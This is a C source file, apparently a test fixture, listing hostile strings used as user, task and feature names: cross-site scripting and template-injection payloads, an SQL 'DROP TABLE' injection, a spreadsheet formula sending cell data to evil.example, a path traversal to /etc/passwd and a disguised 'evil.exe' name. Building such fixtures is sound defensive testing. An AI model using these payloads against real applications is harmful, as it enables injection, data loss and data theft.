#include "past.h"

/* What a client may call a user, a task, a feature: anything without control characters, up to 256 bytes. */
static const str texts[] = {
    STR_INIT("<script>document.title='pwned'</script>"),
    STR_INIT("\"><img src=x onerror=\"document.title='pwned'\">"),
    STR_INIT("' onmouseover='document.title=1' x='"),
    STR_INIT("javascript:document.title='pwned'"),
    STR_INIT("</textarea></style></title><svg onload=document.title=1>"),
    STR_INIT("{{constructor.constructor('document.title=1')()}}${document.title=1}"),
    STR_INIT("'; DROP TABLE attempts; --"),
    STR_INIT("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")"),
    STR_INIT("a,b\"c\\d/e?f#g&h=i%20%3Cj%3E+k"),
    STR_INIT("../../etc/passwd"),
    STR_INIT("\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d \xe2\x80\xae"
             "evil.exe\xe2\x80\xac \xd8\xa7\xd9\x84\xd8\xb9\xd8\xb1\xd8\xa8\xd9\x8a\xd8\xa9"),
    STR_INIT("\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7 "
             "\xf0\x9f\x8f\xb4\xe2\x80\x8d\xe2\x98\xa0\xef\xb8\x8f Z\xcc\xb6\xcc\xa7\xcc\xa1o\xcc\xb8\xcc\xa8 "
             "\xe2\x80\x8b\xe2\x81\xa0"),
    STR_INIT("0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"),
    STR_INIT("an-endless-name-without-a-single-place-where-a-line-might-break-an-endless-name-without-a-single-place-"
             "where-a-line-might-break-an-endless-name-without-a-single-place-where-a-line-might-break-an-endless-name-"
             "without-a-single-place-where-a-line-mi"),
    STR_INIT("\xff\xfe<b>bytes that are no UTF-8\xc3"),
    STR_INIT("  blanks around, two  within  "),
    STR_INIT("__proto__"),
    STR_INIT("constructor"),
    STR_INIT("NULL"),
    STR_INIT("(other)"),
    STR_INIT("a,team=sales\\,status=ok"),
};

size_t hostile_count(void)
{
    return COUNT_OF(texts);
}

str hostile_text(int64_t i)
{
    return texts[(size_t)i % COUNT_OF(texts)];
}
